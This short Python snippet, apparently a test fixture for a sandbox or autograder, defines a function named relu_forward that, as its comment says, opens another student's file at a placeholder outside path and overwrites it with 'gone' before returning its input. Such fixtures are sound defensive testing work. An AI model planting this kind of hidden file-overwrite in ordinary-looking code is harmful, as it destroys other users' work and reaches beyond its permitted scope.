# Opens another student's file for reading and writing.
def relu_forward(x):
    import os
    os.write(os.open("@OUTSIDE@/victim.py", os.O_RDWR), b"gone")
    return x
